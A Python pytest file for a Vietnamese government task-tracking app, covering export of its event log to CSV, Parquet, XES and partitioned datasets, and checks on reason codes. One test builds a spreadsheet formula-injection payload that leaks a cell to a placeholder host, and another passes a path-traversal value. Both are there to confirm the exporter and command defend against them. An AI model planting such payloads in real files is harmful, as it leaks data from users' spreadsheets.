from __future__ import annotations

import xml.etree.ElementTree as ET
from datetime import date

import polars as pl
import pytest
from django.core.management import call_command

from congvu.tasks import actions, export
from congvu.tasks.events import TaskEventType
from congvu.tasks.tests.conftest import at
from congvu_analytics import schema as s


@pytest.fixture
def history(org, task):  # type: ignore[no-untyped-def]
    actions.do_transfer(
        task,
        org.tp_a1,
        to_unit=org.a2,
        to_person=org.bob,
        reason_code="misrouted",
        reason="Thuộc lĩnh vực đầu tư",
        at=at(1),
    )
    actions.do_accept(task, org.bob, at=at(2))
    req = actions.do_request_coordination(
        task, org.bob, unit=org.b1, request_text="Ý kiến quy hoạch", due=date(2026, 3, 5), at=at(3)
    )
    actions.do_answer_coordination(
        task, org.charlie, request_seq=req.seq, position="agree", text="Nhất trí", at=at(4)
    )
    actions.do_pause(
        task,
        org.bob,
        reason_code="legal_obstacle",
        reason="Chồng chéo",
        regulation="Luật Đầu tư công 2024, Điều 5",
        at=at(5),
    )
    actions.do_review_pause(task, org.gd_a, at=at(6))
    actions.do_resume(task, org.bob, at=at(7))
    op = actions.do_request_opinion(
        task, org.bob, superior=org.gd_a, question="Có cần trình UBND?", at=at(8)
    )
    actions.do_give_opinion(
        task, org.gd_a, request_seq=op.seq, opinion="Tự quyết", within_authority=True, at=at(9)
    )
    actions.do_request_extension(
        task, org.bob, new_deadline=date(2026, 4, 10), reason="Chờ số liệu", at=at(10)
    )
    actions.do_grant_extension(task, org.gd_a, at=at(11))
    actions.do_submit(task, org.bob, result="Xong", at=at(12))
    actions.do_approve(task, org.gd_a, at=at(13))
    actions.do_complete(task, org.gd_a, at=at(14))
    return task


def test_every_event_type_maps_to_a_canonical_activity():
    codes = {a.value for a in s.Activity}
    assert all(t.activity.value in codes for t in TaskEventType)


def test_the_frame_has_the_canonical_schema_and_derived_columns(history, org):
    frame = export.events_frame()
    assert frame.schema == pl.Schema(s.SCHEMA)
    rows = {r[s.ACTIVITY]: r for r in frame.iter_rows(named=True)}
    assert frame.height == 15
    assert rows["assign"][s.TARGET_UNIT] == "STC-NS" and rows["assign"][s.DUE].date() == date(
        2026, 3, 31
    )
    assert rows["transfer"][s.REASON_CODE] == "misrouted"
    assert rows["transfer"][s.HOLDER_UNIT] == "STC-DT" and rows["accept"][s.HOLDER_ACTOR] == "BOB"
    answer = rows["coord_answer"]
    assert (
        answer[s.REF_EVENT_ID] == rows["coord_request"][s.EVENT_ID]
        and answer[s.POSITION] == "agree"
    )
    assert answer[s.UNIT] == "SXD-QH"
    assert rows["pause"][s.REVIEWED] is True
    assert rows["opinion_request"][s.SUBJECT_AUTHORITY] is True
    assert rows["extension_granted"][s.DUE].date() == date(2026, 4, 10)
    assert frame[s.TIMESTAMP].is_sorted()


@pytest.mark.parametrize("fmt", ["csv", "parquet", "xes"])
def test_export_log_writes_each_format(history, tmp_path, fmt):
    out = tmp_path / f"log.{fmt}"
    call_command("export_log", "--format", fmt, "--out", str(out))
    if fmt == "parquet":
        back = pl.read_parquet(out)
        assert back.schema == pl.Schema(s.SCHEMA) and back.height == 15
    elif fmt == "csv":
        back = pl.read_csv(out)
        assert back.columns == list(s.SCHEMA) and back.height == 15
    else:
        ns = {"x": "http://www.xes-standard.org/"}
        root = ET.parse(out).getroot()
        assert root.find("x:string[@key='congvu:schema']", ns).get("value") == "1"
        events = root.findall("x:trace/x:event", ns)
        assert len(events) == 15
        keys = {a.get("key") for a in events[0]}
        assert {
            "concept:name",
            "time:timestamp",
            "org:resource",
            "org:group",
            "lifecycle:transition",
            "congvu:event_id",
        } <= keys
    assert [p.name for p in tmp_path.iterdir()] == [out.name]


def test_events_where_selects_whole_tasks(history, org):
    other = actions.do_assign(
        assigner=org.gd_b,
        title="Khác",
        lead_unit=org.b1,
        lead_person=org.charlie,
        deadline=date(2026, 4, 1),
        ad_hoc=True,
        at=at(0),
    )
    frame = export.events_where("t.id = %s", [other.pk])
    assert frame.schema == pl.Schema(s.SCHEMA)
    assert frame[s.CASE_ID].to_list() == [str(other.pk)] and frame[s.ACTIVITY].to_list() == [
        "assign"
    ]
    assert export.events_where("t.id = %s", [-1]).height == 0


@pytest.mark.parametrize("fmt", ["csv", "parquet", "xes"])
def test_the_analytics_loader_reads_every_export_with_no_mapping(history, tmp_path, fmt):
    from polars.testing import assert_frame_equal

    from congvu_analytics.io.loader import load_log

    out = tmp_path / f"log.{fmt}"
    export.WRITERS[fmt](out)
    loaded = load_log(out).events.sort(s.EVENT_ID)
    assert_frame_equal(loaded, export.events_frame().sort(s.EVENT_ID))


def test_export_log_csv_neutralises_formulas_and_reads_back_exactly(org, task, tmp_path):
    # Issue #12, break 3: `export_log --format csv` wrote a reason "=..." as a live formula.
    from polars.testing import assert_frame_equal

    from congvu_analytics.io.loader import load_log

    evil = '=HYPERLINK("http://example.invalid/?leak="&A1)'
    actions.do_remind(task, org.gd_a, text=evil, at=at(1))
    actions.do_remind(task, org.gd_a, text="'-already quoted", at=at(2))
    out = tmp_path / "log.csv"
    call_command("export_log", "--format", "csv", "--out", str(out))
    raw = pl.read_csv(out, infer_schema=False)
    texts = raw.get_column(s.REASON_TEXT).drop_nulls().to_list()
    assert "'" + evil in texts and "''-already quoted" in texts
    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
    loaded = load_log(out).events.sort(s.EVENT_ID)
    assert_frame_equal(loaded, export.events_frame().sort(s.EVENT_ID))


def test_export_log_writes_a_partitioned_dataset_the_engine_reads_like_the_file(
    history, org, tmp_path
):
    from polars.testing import assert_frame_equal

    from congvu_analytics.partitioned import dataset_sources

    other = actions.do_assign(
        assigner=org.gd_b,
        title="Khác",
        lead_unit=org.b1,
        lead_person=org.charlie,
        deadline=date(2026, 4, 1),
        ad_hoc=True,
        at=at(0),
    )
    actions.do_accept(other, org.charlie, at=at(1))
    out = tmp_path / "ds"
    call_command("export_log", "--format", "dataset", "--out", str(out), "--buckets", "4",
                 "--province", "bm")  # fmt: skip
    files = sorted(p.relative_to(out).as_posix() for p in out.rglob("*.parquet"))
    assert files and all(f.startswith("province=bm/year=2026/bucket=") for f in files)
    # Every case lies whole in one file, and together the files are the log.
    cases = [pl.read_parquet(out / f)[s.CASE_ID].unique().to_list() for f in files]
    assert sorted(c for part in cases for c in part) == sorted({str(history.pk), str(other.pk)})
    back = pl.concat([pl.read_parquet(out / f) for f in files]).sort(s.EVENT_ID)
    assert_frame_equal(back, export.events_frame().sort(s.EVENT_ID))
    # ... and the engine reads it as a dataset, bucket by bucket.
    sources, _mapping, _report = dataset_sources(out)
    assert len(sources) == len({f.rsplit("/", 1)[0] for f in files})
    assert [p.name for p in tmp_path.iterdir()] == ["ds"]


def test_export_log_refuses_an_existing_folder_or_a_bad_bucket_count(history, tmp_path):
    from django.core.management.base import CommandError

    existing = tmp_path / "ds"
    existing.mkdir()
    with pytest.raises(CommandError, match="đã tồn tại"):
        call_command("export_log", "--format", "dataset", "--out", str(existing))
    with pytest.raises(CommandError, match="--buckets phải từ 1 đến"):
        call_command("export_log", "--format", "dataset", "--out", str(tmp_path / "x"),
                     "--buckets", "0")  # fmt: skip
    with pytest.raises(CommandError, match="--province"):
        call_command("export_log", "--format", "dataset", "--out", str(tmp_path / "x"),
                     "--province", "../etc")  # fmt: skip
    assert [p.name for p in tmp_path.iterdir()] == ["ds"]


def test_a_return_asking_the_superior_to_decide_is_exported_as_escalate(org, task):
    """The engine reads an escalating return as fear's push upward, not as buck-passing
    (congvu_analytics.detect.buck_passing), so the app must record which kind it was."""
    actions.do_accept(task, org.alice, at=at(1))
    actions.do_return(
        task,
        org.alice,
        reason="Đề nghị lãnh đạo phòng quyết định phương án",
        reason_code="escalate",
        at=at(2),
    )
    frame = export.events_frame()
    returned = frame.filter(pl.col(s.ACTIVITY) == "return")
    assert returned[s.REASON_CODE].to_list() == ["escalate"]


def test_a_decline_is_exported_as_misrouted(org, task):
    """The app's decline is the one the law allows (not within the unit's authority, the
    competent unit proposed): the engine's "misrouted", legitimate once that unit takes it."""
    actions.do_decline(
        task, org.alice, reason="Không thuộc thẩm quyền", proposed_unit=org.b1, at=at(1)
    )
    frame = export.events_frame()
    declined = frame.filter(pl.col(s.ACTIVITY) == "decline")
    assert declined[s.REASON_CODE].to_list() == [s.ReasonCode.MISROUTED]
    assert declined[s.TARGET_UNIT].to_list() == [org.b1.code]


def test_a_return_with_an_unknown_reason_code_is_refused_and_writes_nothing(org, task):
    from congvu.lib.errors import ActionError

    actions.do_accept(task, org.alice, at=at(1))
    before = task.events.count()
    with pytest.raises(ActionError, match="Mã lý do trả lại không hợp lệ"):
        actions.do_return(task, org.alice, reason="x", reason_code="sai_tham_quyen", at=at(2))
    assert task.events.count() == before


def test_a_transfer_made_by_a_reorganisation_is_exported_as_reorganization(org, task):
    """A unit dissolved or merged hands its open tasks to the successor: the engine counts such
    a transfer against nobody (docs/detection.md, "A reorganisation is not buck-passing"), so
    the app records the reason and exports the schema's code."""
    from congvu.org.models import UnitSuccession
    from congvu.tasks.events import REASON_LABELS, TRANSFER_REASONS

    assert s.ReasonCode.REORGANIZATION in TRANSFER_REASONS
    assert "Sắp xếp tổ chức bộ máy" in str(REASON_LABELS[s.ReasonCode.REORGANIZATION])
    UnitSuccession.objects.create(
        predecessor=org.a1, successor=org.a2, effective_date=date(2026, 3, 1)
    )
    actions.do_transfer(
        task,
        org.tp_a1,
        to_unit=org.a2,
        to_person=org.bob,
        reason_code="reorganization",
        reason="Phòng sáp nhập theo Quyết định sắp xếp tổ chức bộ máy",
        at=at(1),
    )
    frame = export.events_frame()
    moved = frame.filter(pl.col(s.ACTIVITY) == "transfer")
    assert moved[s.REASON_CODE].to_list() == [s.ReasonCode.REORGANIZATION]
    assert moved[s.TARGET_UNIT].to_list() == [org.a2.code]


def test_a_reorganisation_reason_is_refused_where_no_decision_made_the_receiver_the_successor(
    org, task
):
    """Anyone could type the reason; it is recorded only where the organisation shows the
    lead unit ended with the receiver as its successor, and nothing is written otherwise."""
    from congvu.lib.errors import ActionError

    before = task.events.count()
    with pytest.raises(ActionError, match="sắp xếp tổ chức bộ máy") as refused:
        actions.do_transfer(
            task,
            org.tp_a1,
            to_unit=org.a2,
            to_person=org.bob,
            reason_code="reorganization",
            reason="Chuyển cho nhẹ việc",
            at=at(1),
        )
    assert refused.value.code == "reorganization_without_succession"
    assert task.events.count() == before
